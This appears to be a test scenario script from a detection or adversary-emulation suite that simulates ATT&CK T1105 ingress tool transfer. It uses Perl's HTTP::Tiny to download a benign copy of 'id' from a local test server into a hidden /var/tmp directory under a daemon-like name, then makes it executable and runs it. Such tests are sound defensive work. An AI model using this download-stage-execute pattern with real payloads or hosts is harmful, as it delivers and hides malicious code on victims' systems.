#!/usr/bin/env bash
# Ingress tool transfer: Perl's core HTTP::Tiny mirrors an ELF into a hidden directory under
# /var/tmp, `chmod +x`, then it is run.
. "$(dirname "$0")/../lib.sh"
scn_begin ingress-perl-httptiny T1105
scn_require perl
perl -MHTTP::Tiny -e 1 2>/dev/null || scn_skip "perl has no HTTP::Tiny"
scn_http_peer
cp /usr/bin/id "$SCN_WORK/srv/dbus-daemon"
scn_mkdir "/var/tmp/.dbus-$SCN_RUN_ID"
dest="/var/tmp/.dbus-$SCN_RUN_ID/dbus-daemon"
perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new(timeout => 10)->mirror($ARGV[0], $ARGV[1]); exit($r->{success} ? 0 : 1)' \
    "$SCN_URL/dbus-daemon" "$dest" || scn_fail "the download failed"
chmod +x "$dest"
"$dest" >"$SCN_WORK/out" &
key=$!
scn_wait_pid $key 10 || scn_fail "the payload did not finish"
grep -q 'uid=0' "$SCN_WORK/out" || scn_fail "the payload did not run"
scn_done $key
